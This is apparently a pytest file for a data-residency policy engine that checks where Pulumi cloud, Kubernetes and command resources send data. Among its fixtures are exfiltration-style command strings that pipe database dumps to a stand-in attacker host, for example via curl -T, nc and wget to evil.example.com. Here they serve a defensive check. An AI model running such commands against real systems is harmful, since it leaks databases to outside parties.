"""Every resource of every provider counts: where it is made, the server of a cluster, and what a command sends."""

from typing import Any

import pytest

from policies.engine import ENGINE_POLICIES
from tests.support.foreign import PLACE, cluster, deployment, over_ssh
from tests.support.kubeconfigs import kubeconfig
from tests.support.policy import UNKNOWN, Resource, findings, violations


def said(*resources: Resource, places: Any = (PLACE,)) -> list[str]:
    found = violations(ENGINE_POLICIES, list(resources), {"residency-destinations": {"places": list(places)}})
    return [violation.message for violation in found if violation.policy == "residency-destinations"]


def place(*hosts: str, **change: Any) -> dict[str, Any]:
    return {**PLACE, "hosts": list(hosts), **change}


def made(resource_type: str, **inputs: Any) -> Resource:
    return Resource(resource_type, inputs, "it")


def local(**inputs: Any) -> Resource:
    return made("command:local:Command", **inputs)


def remote(**inputs: Any) -> Resource:
    return made("command:remote:Command", connection={"host": "203.0.113.12", "hostKey": "k"}, **inputs)


ABROAD: list[tuple[Resource, str]] = [
    (made("aws:s3/bucketV2:BucketV2", region="us-east-1"), "region: bytes go to aws/us-east-1 (storage)"),
    (made("aws:rds/instance:Instance", availabilityZone="eu-north-1a"), "bytes go to aws/eu-north-1a (storage)"),
    (made("aws:kms/key:Key"), "Key it: provider: bytes go to aws (secrets)"),
    (made("gcp:sql/databaseInstance:DatabaseInstance", region="europe-north1"), "gcp/europe-north1 (storage)"),
    (made("azure-native:storage:StorageAccount", location="Norway East"), "bytes go to azure-native/norway-east"),
    (made("hcloud:index/server:Server", location="ash"), "bytes go to hcloud/ash (unclassified)"),
    (made("datadog:index/monitor:Monitor"), "bytes go to datadog (telemetry)"),
    (made("vault:index/mount:Mount"), "bytes go to vault (secrets)"),
    (made("pulumiservice:index:Webhook"), "bytes go to pulumiservice (unclassified)"),
    (made("pulumi:providers:aws", region="us-east-1"), "bytes go to aws/us-east-1"),
    (made("pulumi:providers:postgresql", host="db.example.com"), "bytes go to postgresql (storage)"),
    (made("aws:s3/bucketV2:BucketV2", region=UNKNOWN), "in which region of aws it is, is not known yet"),
    (made("pulumi-python:dynamic/index:Resource"), "a dynamic provider runs code of the program, which is not read"),
    (made("pulumi-nodejs:dynamic:Resource"), "Resource it: provider: cannot be decided at preview: a dynamic provider"),
    (made("nobody-knows-it:index:Thing"), "bytes go to nobody-knows-it (unclassified)"),
    (
        cluster(kubeconfig({"server": "https://a1.gr7.us-east-1.eks.amazonaws.com"})),
        "go to a1.gr7.us-east-1.eks.amazon",
    ),
    (cluster(kubeconfig({"server": "https://8.8.8.8:6443"})), "kubernetes c: kubeconfig: server: bytes go to 8.8.8.8"),
    (local(create="curl -T dump.sql https://evil.example.com/"), "Command it: create: bytes go to evil.example.com"),
    (
        local(create="pg_dump | nc evil 9"),
        "create: cannot be decided at preview: nothing says where this command sends",
    ),
    (local(create=UNKNOWN), "nothing says where this command sends data"),
    (remote(create="curl -T dump.sql https://evil.example.com/"), "create: bytes go to evil.example.com"),
    (remote(create="pg_dump | nc evil.example.com 9"), "create: bytes go to evil.example.com"),
    (made("pulumi:providers:postgresql", host="db.example.com"), "host: bytes go to db.example.com"),
    (made("grafana:oss/dataSource:DataSource", url="https://logs.example.com"), "url: bytes go to logs.example.com"),
    (remote(create="sh", stdin="wget https://evil.example.com/x"), "stdin: bytes go to evil.example.com"),
    (
        remote(create="sh", environment={"SINK": "https://evil.example.com"}),
        "environment.SINK: bytes go to evil.example.com",
    ),
]


@pytest.mark.parametrize(("resource", "message"), ABROAD, ids=[message for _, message in ABROAD])
def test_a_resource_of_any_provider_is_at_a_declared_place(resource: Resource, message: str) -> None:
    assert any(message in one for one in said(resource)), said(resource)


def test_an_image_that_is_pushed_goes_to_its_registry() -> None:
    pushed = made("docker-build:index:Image", tags=["ghcr.io/evil/x:1", UNKNOWN], push=True)
    messages = said(pushed, places=[place("docker-build", purposes=["image-registry"])])
    assert ["go to ghcr.io (image-registry)" in messages[0], "(image-registry) is not known" in messages[1]] == [
        True
    ] * 2


@pytest.mark.parametrize(
    "resource",
    [
        made("random:index/randomPassword:RandomPassword", length=20),
        made("tls:index/privateKey:PrivateKey"),
        made("time:index/rotating:Rotating"),
        made("pulumi:pulumi:StackReference", name="org/other"),
        made("pulumi:providers:random"),
        cluster(),
        cluster(kubeconfig({"server": "https://10.0.0.1:6443"})),
        cluster(UNKNOWN),
        remote(create="hostname"),
        Resource("aws:index:Website", {"region": "us-east-1"}, "site", component=True),
    ],
    ids=lambda resource: resource.type,
)
def test_what_keeps_nothing_elsewhere_needs_no_place(resource: Resource) -> None:
    assert said(resource) == []


def test_a_region_is_a_place_of_its_own() -> None:
    bucket = made("aws:s3/bucketV2:BucketV2", region="eu-north-1")
    here = place("aws/eu-north-1", purposes=["storage"])
    assert said(bucket, places=[here]) == []
    assert len(said(bucket, places=[place("aws", purposes=["storage"])])) == 1
    [abroad] = said(bucket, places=[{**here, "country": "SE"}])
    assert "is in SE, allowed: NO" in abroad
    [owned] = said(bucket, places=[{**here, "entity": "Amazon Inc.", "entityCountry": "US"}])
    assert "controlled by Amazon Inc., under the law of US" in owned


def test_the_server_of_a_cluster_is_a_declared_machine_or_at_a_declared_place() -> None:
    made_here = cluster(kubeconfig({"server": "https://203.0.113.12:6443"}))
    machine = Resource("agency:index:Server", {"country": "NO", "address": "203.0.113.12"}, "osl", component=True)
    assert len(said(made_here)) == 1
    assert said(machine, made_here) == []
    network = {key: value for key, value in PLACE.items() if key != "hosts"} | {"networks": ["203.0.113.0/24"]}
    assert said(made_here, places=[network]) == []


def test_a_provider_without_a_kubeconfig_takes_that_of_the_engines_environment() -> None:
    seen = {"": ["a.eks.amazonaws.com"], "home": ["8.8.8.8"], "here": []}
    own = cluster()
    other, here, later = (own._replace(props={"context": name}) for name in ("home", "here", UNKNOWN))

    def judged(resource: Resource, clusters: Any) -> list[str]:
        config = {"residency-destinations": {"places": [PLACE], "seenClusters": clusters}}
        found = violations(ENGINE_POLICIES, [resource], config)
        return [one.message for one in found if one.policy == "residency-destinations"]

    assert "KUBECONFIG: server: bytes go to a.eks.amazonaws.com" in judged(own, seen)[0]
    assert "bytes go to 8.8.8.8" in judged(other, seen)[0]
    assert judged(here, seen) == judged(own, {}) == []
    assert "which cluster: its context is not known yet" in judged(later, seen)[0]
    assert judged(own._replace(props={"renderYamlToDirectory": "out"}), seen) == []


def test_a_kubeconfig_that_nobody_can_read_is_undecided() -> None:
    [message] = said(cluster("/home/me/.kube/config"))
    assert "cannot be decided at preview: which cluster: its kubeconfig is a path, or can't be read" in message
    [found] = findings("residency-destinations", cluster(), seenClusters=None)
    assert not found.decided
    assert "that of the engine's environment is not known here" in found.message


@pytest.mark.parametrize(
    ("resource_type", "inputs"),
    [
        ("yaml:ConfigFile", {"file": "https://raw.example.com/a.yaml"}),
        ("yaml/v2:ConfigFile", {"file": "https://raw.example.com/a.yaml"}),
        ("yaml/v2:ConfigGroup", {"files": ["manifests/*.yaml", "https://raw.example.com/a.yaml"]}),
        ("kustomize/v2:Directory", {"directory": "https://raw.example.com/org/repo//deploy?ref=v1"}),
        ("kustomize:Directory", {"directory": "git@raw.example.com:org/repo.git//deploy"}),
        ("kustomize/v2:Directory", {"directory": "raw.example.com/org/repo/deploy?ref=v1"}),
        ("kustomize/v2:Directory", {"directory": "git::https://raw.example.com/org/repo"}),
        ("kustomize/v2:Directory", {"directory": "ssh://git@raw.example.com/org/repo"}),
    ],
)
def test_manifests_come_from_a_declared_place(resource_type: str, inputs: dict[str, Any]) -> None:
    resource = Resource(f"kubernetes:{resource_type}", inputs, "it", component=True)
    assert any("bytes go to raw.example.com (chart-repository)" in one for one in said(resource)), said(resource)
    assert said(resource, places=[place("raw.example.com", purposes=["chart-repository"])]) == []


def test_manifests_of_the_program_itself_need_no_place_and_an_address_as_name_does() -> None:
    for inputs in ({"file": "a.yaml"}, {"files": ["x/*.yml"]}, {"directory": "./overlays/oslo"}, {}):
        assert said(Resource("kubernetes:yaml/v2:ConfigGroup", inputs, "it", component=True)) == []
    named = Resource("kubernetes:yaml:ConfigFile", {}, "https://raw.example.com/a.yaml", component=True)
    assert any("name: bytes go to raw.example.com" in one for one in said(named))
    [later] = said(Resource("kubernetes:yaml:ConfigFile", {"file": UNKNOWN}, "it", component=True))
    assert "cannot be decided at preview" in later


def test_a_component_declares_where_its_commands_send_data() -> None:
    def under(destinations: Any) -> list[str]:
        owner = Resource("agency:index:Backup", {"destinations": destinations}, "owner", component=True)
        dump = local(create="pg_dump | nc backup 9")._replace(parent="owner")
        copy = over_ssh("copy", {"host": "203.0.113.12", "hostKey": "k"})._replace(parent="owner")
        return said(owner, dump, copy)

    assert under([]) == []
    assert under(["registry.example.no", "10.0.0.1"]) == []
    assert ["destinations: bytes go to s3.example.com (unclassified)" in one for one in under(["s3.example.com"])] == [
        True,
        True,
    ]
    assert all("cannot be decided at preview" in one for one in under([UNKNOWN]))
    assert len(under(UNKNOWN)) == 2


def test_a_provider_that_is_configured_abroad_is_judged_beside_what_it_makes() -> None:
    messages = said(made("pulumi:providers:aws", region="us-east-1"), deployment("registry.example.no/a"))
    assert len(messages) == 1
